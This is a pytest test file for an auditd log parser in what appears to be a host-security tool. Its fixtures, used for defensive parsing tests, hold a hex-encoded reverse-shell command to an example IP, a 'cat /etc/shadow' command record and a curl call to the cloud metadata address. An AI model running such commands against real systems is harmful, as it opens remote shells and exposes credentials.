"""auditd: coalescing by event identity, hex decoding, user-space records, ausearch -i, bad input."""

from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hostwarden.core.schema import to_arrow
from hostwarden.normalize.auditd import AuditdParser, decode_sockaddr, decode_value
from hostwarden.normalize.base import ParseContext, RawLine

# A reverse shell started by sudo'd bash on x86_64, as auditd writes it (argv hex-encoded
# because it holds spaces and `>`; proctitle NUL-separated).
EXEC = """\
type=SYSCALL msg=audit(1795778020.120:4021): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=41 a2=55d2 a3=0 items=2 ppid=5201 pid=5290 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=42 comm="bash" exe="/usr/bin/bash" subj=unconfined key="exec"
type=EXECVE msg=audit(1795778020.120:4021): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E392F3434343320303E2631
type=CWD msg=audit(1795778020.120:4021): cwd=2F726F6F742F6D7920646972
type=PATH msg=audit(1795778020.120:4021): item=0 name="/usr/bin/bash" inode=1311 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
type=PATH msg=audit(1795778020.120:4021): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1923 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
type=PROCTITLE msg=audit(1795778020.120:4021): proctitle=62617368002D63006964
type=EOE msg=audit(1795778020.120:4021):"""


def lines_of(text: str, start: int = 0) -> list[RawLine]:
    out, offset = [], start
    for line in text.split("\n"):  # not splitlines(): it also splits at auditd's 0x1d separator
        out.append(RawLine(offset, line))
        offset += len(line.encode()) + 1
    return out


def parse(text: str, ctx: ParseContext | None = None) -> list[dict]:
    return AuditdParser().parse_batch(lines_of(text), ctx or ParseContext())


def covered(events: list[dict]) -> list[str]:
    return [line for ev in events for line in ev["event.original"].split("\n")]


def test_syscall_group_becomes_one_event_with_ecs_and_native_fields():
    (ev,) = parse(EXEC)
    assert ev["event.original"] == EXEC and ev["log.offset"] == 0
    assert ev["@timestamp"] == datetime(2026, 11, 27, 11, 13, 40, 120000, tzinfo=UTC)
    assert ev["process.args"] == ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4443 0>&1"]
    assert ev["process.command_line"] == "bash -c bash -i >& /dev/tcp/203.0.113.9/4443 0>&1"
    assert (ev["process.executable"], ev["process.name"], ev["process.pid"], ev["process.parent.pid"]) == (
        "/usr/bin/bash", "bash", 5290, 5201)
    assert (ev["user.id"], ev["user.effective.id"], ev["auid"], ev["gid"]) == ("0", "0", "1000", "0")
    assert ev["process.working_directory"] == "/root/my dir" and ev["proctitle"] == "bash -c id"
    # The executable, not the loader listed after it, is the file the event is about.
    assert ev["file.path"] == ev["name"] == "/usr/bin/bash"
    assert (ev["event.action"], ev["event.outcome"], ev["event.category"], ev["event.type"]) == (
        "executed", "success", ["process"], ["start"])
    # Sigma auditd rules match these native names.
    assert (ev["type"], ev["SYSCALL"], ev["syscall"], ev["key"], ev["exe"], ev["comm"]) == (
        "SYSCALL", "execve", "59", "exec", "/usr/bin/bash", "bash")
    assert (ev["a0"], ev["a1"], ev["argc"]) == ("bash", "-c", "3")  # EXECVE's argv, not SYSCALL's registers
    assert ev["record_types"] == "SYSCALL,EXECVE,CWD,PATH,PROCTITLE,EOE"


def test_native_fields_land_in_labels():
    table = to_arrow(parse(EXEC))
    labels = dict(table.column("labels")[0].as_py())
    assert labels["type"] == "SYSCALL" and labels["a2"].startswith("bash -i") and labels["SYSCALL"] == "execve"
    assert table.column("process.executable")[0].as_py() == "/usr/bin/bash"


def test_syscall_registers_are_not_decoded_as_text_without_execve():
    text = ("type=SYSCALL msg=audit(1700000000.000:7): arch=c000003e syscall=42 success=no exit=-115 a0=41 a1=7ffc a2=10 "
            "a3=4 items=0 ppid=1 pid=1648 auid=4294967295 uid=0 gid=0 euid=0 comm=\"curl\" exe=\"/usr/bin/curl\" key=(null)\n"
            "type=SOCKADDR msg=audit(1700000000.000:7): saddr=02000050A9FEA9FE0000000000000000\n"
            "type=EOE msg=audit(1700000000.000:7):")
    (ev,) = parse(text)
    assert ev["a0"] == "41" and "key" not in ev and ev["auid"] == "unset"
    assert (ev["SYSCALL"], ev["destination.ip"], ev["destination.port"]) == ("connect", "169.254.169.254", 80)
    assert (ev["event.category"], ev["event.outcome"]) == (["network"], "failure")


def test_syscall_names_only_for_x86_64():
    arm = "type=SYSCALL msg=audit(1741983195.885:240): arch=c00000b7 syscall=37 success=no exit=-14 items=1 pid=5 uid=0 comm=\"link\""
    (ev,) = parse(arm)
    assert ev["syscall"] == "37" and "SYSCALL" not in ev and ev["event.action"] == "syscall_37"


def test_interleaved_events_are_kept_apart():
    text = """\
node=web1 type=SYSCALL msg=audit(1451781471.394:194435): arch=c000003e syscall=23 success=yes exit=1 pid=1281 uid=1000 comm="sshd" exe="/usr/sbin/sshd"
node=web1 type=SYSCALL msg=audit(1451781471.394:194433): arch=c000003e syscall=13 success=yes exit=0 pid=1321 uid=0 comm="bash" exe="/usr/bin/bash"
node=web1 type=PROCTITLE msg=audit(1451781471.394:194433): proctitle="bash"
node=web1 type=PROCTITLE msg=audit(1451781471.394:194435): proctitle=737368643A206275726E205B707269765D"""
    events = parse(text)
    assert [ev["auditd.serial"] for ev in events] == ["194435", "194433"]  # first-line order
    assert [ev["proctitle"] for ev in events] == ["sshd: burn [priv]", "bash"]
    assert {ev["host.name"] for ev in events} == {"web1"}
    assert sorted(covered(events)) == sorted(text.splitlines())


def test_same_serial_after_a_reboot_is_another_event():
    text = ('type=USER_CMD msg=audit(1700000000.000:5): pid=1 uid=0 auid=0 msg=\'cwd="/" cmd=6964 res=success\'\n'
            'type=USER_CMD msg=audit(1700009999.000:5): pid=2 uid=0 auid=0 msg=\'cwd="/" cmd=77686F616D69 res=success\'')
    assert [ev["process.command_line"] for ev in parse(text)] == ["id", "whoami"]


def test_batches_split_a_group_without_losing_or_doubling_lines():
    lines = lines_of(EXEC)
    parser = AuditdParser()
    events = parser.parse_batch(lines[:3], ParseContext()) + parser.parse_batch(lines[3:], ParseContext())
    assert covered(events) == EXEC.splitlines()
    assert [ev["log.offset"] for ev in events] == [0, lines[3].offset]
    assert events[0]["process.command_line"].startswith("bash -c bash -i")


def test_long_argv_split_across_chunks_and_records():
    # One argument split into hex chunks mid-way through a UTF-8 character, and argv continued
    # in a second EXECVE record, as the kernel does for long command lines.
    arg = "é" * 3 + "/tmp/x"
    hexed = arg.encode().hex().upper()
    text = (f"type=SYSCALL msg=audit(1700000000.000:9): arch=c000003e syscall=59 success=yes exit=0 pid=9 uid=0 comm=\"python3\" exe=\"/usr/bin/python3\"\n"
            f"type=EXECVE msg=audit(1700000000.000:9): argc=4 a0=\"python3\" a1_len={len(arg.encode())} a1[0]={hexed[:6]} a1[1]={hexed[6:]}\n"
            f"type=EXECVE msg=audit(1700000000.000:9): a2=\"-c\" a3=\"print(1)\"\n"
            f"type=EOE msg=audit(1700000000.000:9):")
    (ev,) = parse(text)
    assert ev["process.args"] == ["python3", arg, "-c", "print(1)"]
    assert ev["a1"] == arg and ev["argc"] == "4"


def test_multiple_rule_keys():
    key = b"a\x01b".hex().upper()
    (ev,) = parse(f"type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=2 success=yes exit=3 pid=1 uid=0 key={key}")
    assert (ev["key"], ev["keys"]) == ("a", "a,b")


@pytest.mark.parametrize(
    "record, expected",
    [
        ("type=USER_LOGIN msg=audit(1700000000.000:1): pid=777 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=sshd res=failed'",
         {"event.action": "user_login", "user.name": "root", "source.ip": "203.0.113.9", "event.outcome": "failure",
          "event.category": ["authentication"], "process.executable": "/usr/sbin/sshd", "terminal": "sshd", "op": "login"}),
        ("type=USER_AUTH msg=audit(1700000000.000:2): pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"admin\" exe=\"/usr/sbin/sshd\" hostname=bad.example addr=::ffff:198.51.100.7 terminal=ssh res=failed'",
         {"event.action": "user_authenticated", "user.name": "admin", "source.ip": "198.51.100.7", "event.outcome": "failure"}),
        ("type=USER_AUTH msg=audit(1700000000.000:15): pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" hostname=198.51.100.7 addr=198.51.100.7 terminal=ssh res=failed'",
         {"user.name": None, "acct": "(invalid user)", "event.outcome": "failure", "source.ip": "198.51.100.7"}),
        ("type=USER_ACCT msg=audit(1700000000.000:3): pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:accounting grantors=pam_unix acct=\"bob\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'",
         {"event.action": "user_authorized", "user.name": "bob", "event.outcome": "success"}),
        ("type=ADD_USER msg=audit(1700000000.000:4): pid=1 uid=0 auid=1000 ses=3 msg='op=add-user acct=\"mallory\" exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'",
         {"event.action": "user_created", "user.target.name": "mallory", "event.category": ["iam"], "event.type": ["user", "creation"]}),
        ("type=DEL_USER msg=audit(1700000000.000:5): pid=1 uid=0 auid=1000 ses=3 msg='op=delete-user id=1001 exe=\"/usr/sbin/userdel\" hostname=? addr=? terminal=pts/0 res=success'",
         {"event.action": "user_deleted", "user.target.name": "1001"}),
        ("type=ADD_GROUP msg=audit(1700000000.000:6): pid=1 uid=0 auid=1000 ses=3 msg='op=add-group acct=\"frodo\" exe=\"/usr/sbin/groupadd\" hostname=? addr=? terminal=pts/0 res=success'",
         {"event.action": "group_created", "group.name": "frodo"}),
        ("type=USER_CMD msg=audit(1700000000.000:7): pid=1382 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/alice\" cmd=636174202F6574632F736861646F77 terminal=pts/0 res=success'",
         {"event.action": "user_command", "process.command_line": "cat /etc/shadow", "process.working_directory": "/home/alice", "user.id": "1000"}),
        ("type=CRED_ACQ msg=audit(1700000000.000:8): pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:setcred grantors=pam_env acct=\"bob\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.5 addr=203.0.113.5 terminal=ssh res=success'",
         {"event.action": "credentials_acquired", "user.name": "bob"}),
        ("type=USER_START msg=audit(1700000000.000:9): pid=9 uid=0 auid=1000 ses=11 msg='op=PAM:session_open grantors=pam_unix acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=72.83.230.100 addr=72.83.230.100 terminal=ssh res=success'",
         {"event.action": "session_started", "event.category": ["session"], "source.ip": "72.83.230.100"}),
        ("type=SERVICE_START msg=audit(1700000000.000:10): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=nginx comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
         {"event.action": "service_started", "unit": "nginx"}),
        ("type=AVC msg=audit(1700000000.000:11): avc:  denied  { read write } for  pid=13010 comm=\"pickup\" name=\"maildrop\" dev=hda7 ino=14911367 scontext=system_u:system_r:postfix_pickup_t:s0 tcontext=system_u:object_r:postfix_spool_maildrop_t:s0 tclass=dir",
         {"event.action": "mac_denied", "seresult": "denied", "seperms": "read write", "tclass": "dir", "process.name": "pickup"}),
        ("type=ANOM_ABEND msg=audit(1700000000.000:12): auid=4294967295 uid=0 gid=0 ses=4294967295 pid=1234 comm=\"nginx\" exe=\"/usr/sbin/nginx\" sig=11 res=1",
         {"event.action": "process_crashed", "sig": "11", "process.executable": "/usr/sbin/nginx"}),
        ("type=ANOM_PROMISCUOUS msg=audit(1700000000.000:13): dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 gid=0 ses=2",
         {"event.action": "promiscuous_mode_changed", "dev": "eth0"}),
        ("type=ANOM_ACCESS_FS msg=audit(1700000000.000:14): pid=1 uid=0 auid=0 ses=1 msg='op=watch res=failed'",
         {"event.category": ["intrusion_detection"], "event.action": "anom_access_fs"}),
    ],
)
def test_user_space_and_kernel_records(record, expected):
    (ev,) = parse(record)
    assert {k: ev.get(k) for k in expected} == expected


def test_enriched_tail_gives_names():
    text = ('type=SYSCALL msg=audit(1700000000.000:20): arch=c000003e syscall=133 success=yes exit=0 pid=5 auid=1000 uid=0 '
            'euid=33 comm="mknod" exe="/usr/bin/mknod" key=(null)\x1dARCH=x86_64 SYSCALL=mknod AUID="alice" UID="root" EUID="www-data"')
    (ev,) = parse(text)
    assert (ev["user.name"], ev["user.effective.name"], ev["user.effective.id"], ev["SYSCALL"], ev["AUID"]) == (
        "alice", "www-data", "33", "mknod", "alice")
    assert ev["event.category"] == ["file"] and ev["event.type"] == ["creation"]


AUSEARCH = """\
----
type=PROCTITLE msg=audit(11/27/2026 10:53:40.120:4021) : proctitle=bash -c id
type=PATH msg=audit(11/27/2026 10:53:40.120:4021) : item=0 name=/usr/bin/bash inode=1311 dev=08:01 mode=file,755 ouid=root ogid=root rdev=00:00 nametype=NORMAL
type=CWD msg=audit(11/27/2026 10:53:40.120:4021) : cwd=/root
type=EXECVE msg=audit(11/27/2026 10:53:40.120:4021) : argc=3 a0=bash a1=-c a2=ABCD
type=SYSCALL msg=audit(11/27/2026 10:53:40.120:4021) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55d0 a1=0x55d1 a2=0x55d2 a3=0x0 items=2 ppid=5201 pid=5290 auid=alice uid=root gid=root euid=root tty=pts1 ses=42 comm=bash exe=/usr/bin/bash key=exec
----
type=USER_LOGIN msg=audit(11/27/2026 10:53:41.000:4022) : pid=777 uid=root auid=unset ses=unset msg='op=login acct=root exe=/usr/sbin/sshd hostname=? addr=203.0.113.9 terminal=sshd res=failed'"""


def test_ausearch_interpreted_output():
    ctx = ParseContext(tz=timezone(timedelta(hours=1)))
    events = parse(AUSEARCH, ctx)
    assert covered(events) == AUSEARCH.splitlines()
    seps = [ev for ev in events if ev["event.action"] == "ausearch_separator"]
    assert len(seps) == 2 and all("parse_failure" not in (ev.get("tags") or []) for ev in events)
    exec_ev, login = [ev for ev in events if ev["event.action"] != "ausearch_separator"]
    assert exec_ev["@timestamp"] == datetime(2026, 11, 27, 9, 53, 40, 120000, tzinfo=UTC)
    assert exec_ev["process.args"] == ["bash", "-c", "ABCD"]  # interpreted: hex-looking text stays text
    assert (exec_ev["proctitle"], exec_ev["SYSCALL"], exec_ev["user.name"], exec_ev["event.action"]) == (
        "bash -c id", "execve", "alice", "executed")
    assert "user.id" not in exec_ev  # `uid=root` is a name, not an id
    assert (login["user.name"], login["event.outcome"], login["auid"]) == ("root", "failure", "unset")


def test_values_and_sockaddr_helpers():
    assert decode_value("name", "2F746D702F6120622063") == "/tmp/a b c"
    assert decode_value("comm", '"ls"') == "ls" and decode_value("comm", '"trunc') == "trunc"
    assert decode_value("ses", "4294967295") == "4294967295"
    assert decode_value("a1", "4142", interpreted=True) == "4142"
    assert decode_sockaddr("0A00" + "0016" + "00000000" + "00" * 15 + "01" + "00000000") == ("::1", 22)
    assert decode_sockaddr("01002F7661722F72756E") is None and decode_sockaddr("zz") is None


@pytest.mark.parametrize(
    "junk",
    [
        "",
        "complete garbage",
        "\x00\x00\x00",
        "type=SYSCALL msg=audit(1700000000.000:1): a0=\"unterminated comm=\"x",
        "type=EXECVE msg=audit(1700000000.000:2): argc=999999999 a0=\"x\"",
        "type=EXECVE msg=audit(1700000000.000:3): argc=2 a0=ZZ a1=4",
        "type=PATH msg=audit(99999999999999999999.000:4): name=\"/x\"",
        "type=UNKNOWN[1329] msg=?",
        "type=SYSCALL msg=audit(1700000000.000:5): " + "k=v " * 50_000,
        "type=SOCKADDR msg=audit(1700000000.000:6): saddr=0200",
    ],
)
def test_bad_input_never_raises_and_keeps_every_line(junk):
    text = f"{junk}\n{EXEC}\n{junk}"
    lines = lines_of(text)
    events = AuditdParser().parse_batch(lines, ParseContext())
    assert sorted(covered(events)) == sorted(ln.text for ln in lines)
    assert any(ev.get("process.command_line", "").startswith("bash -c") for ev in events)
    to_arrow(events)  # every event fits the schema


def test_unknown_lines_are_parse_failures_and_tags_survive():
    lines = [RawLine(0, "hello world"), RawLine(12, 'type=USER_CMD msg=audit(1.000:1): pid=1 msg=\'cmd=6964 res=success\'', ("invalid_utf8",))]
    fail, ok = AuditdParser().parse_batch(lines, ParseContext())
    assert "parse_failure" in fail["tags"] and fail["error.code"] == "LOG-4101"
    assert ok["tags"] == ["invalid_utf8"] and ok["process.command_line"] == "id"


def test_sniff():
    parser = AuditdParser()
    assert parser.sniff(EXEC.splitlines()) == 1.0
    assert parser.sniff(["Nov 28 10:00:00 h sshd[1]: Accepted password for x from 1.2.3.4 port 22 ssh2"]) == 0.0
    assert parser.sniff([]) == 0.0


RECORD_TYPES = st.sampled_from(["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE", "EOE", "USER_LOGIN", "AVC", "SOCKADDR"])
BODY_PIECES = st.sampled_from(['a0="x"', "a1=4142", "argc=2", "argc=99999", 'a2[0]="p"', "a2[1]=41", "a2_len=3",
                               "proctitle=6C7300", 'cwd="/"', "name=2F6574", "nametype=PARENT", "syscall=59",
                               "arch=c000003e", "success=no", "uid=0", "auid=4294967295", "saddr=0200001601020304",
                               "msg='op=x acct=\"r\" res=failed addr=1.2.3.4'", "key=(null)", "exe=\"/bin/sh",
                               "\x1dUID=\"root\"", "'", '"', "=", "k=", "\ufffd"])


@st.composite
def audit_lines(draw):
    kind = draw(st.integers(0, 9))
    if kind == 0:
        return draw(st.text(max_size=40).map(lambda t: t.replace("\n", " ")))
    if kind == 1:
        return "----"
    serial = draw(st.integers(1, 4))
    prefix = draw(st.sampled_from(["", "node=h1 "]))
    body = " ".join(draw(st.lists(BODY_PIECES, max_size=6)))
    return f"{prefix}type={draw(RECORD_TYPES)} msg=audit(1700000000.{serial:03d}:{serial}): {body}"


@settings(max_examples=200, deadline=None)
@given(st.lists(audit_lines(), max_size=40), st.integers(0, 40))
def test_random_record_streams_cover_every_line_once(texts, cut):
    lines = lines_of("\n".join(texts)) if texts else []
    parser = AuditdParser()
    events = parser.parse_batch(lines[:cut], ParseContext()) + parser.parse_batch(lines[cut:], ParseContext())
    assert sorted(covered(events)) == sorted(ln.text for ln in lines)
    assert len({ev["log.offset"] for ev in events}) == len(events)
    to_arrow(events)


def test_audit_log_file_through_the_pipeline_into_a_real_store(tmp_path):
    from hostwarden.core.chunks import Chunk
    from hostwarden.pipelines.ingest import ingest_chunks
    from hostwarden.store.eventstore import EventStore

    login = ("type=USER_LOGIN msg=audit(1795778030.000:4022): pid=777 uid=0 auid=4294967295 ses=4294967295 "
             "msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=sshd res=failed'")
    data = (EXEC + "\n" + login + "\n").encode()
    with EventStore(tmp_path) as store:
        stats = ingest_chunks(store, [Chunk("/var/log/audit/audit.log", 0, data)])
        again = ingest_chunks(store, [Chunk("/var/log/audit/audit.log", 0, data)])
        assert (stats.stored, stats.parse_failures, again.stored) == (2, 0, 0)
        assert stats.by_dataset == {"auditd": 2}  # the pipeline counts stored rows: one per coalesced event
        rows = store.query(
            "SELECT \"process.command_line\", \"user.name\", \"source.ip\", labels['type'], labels['a0'], labels['SYSCALL'] "
            "FROM events ORDER BY \"log.offset\"")
    assert rows[0][0].startswith("bash -c bash -i") and rows[0][3:] == ("SYSCALL", "bash", "execve")
    assert rows[1][1:4] == ("root", "203.0.113.9", "USER_LOGIN")
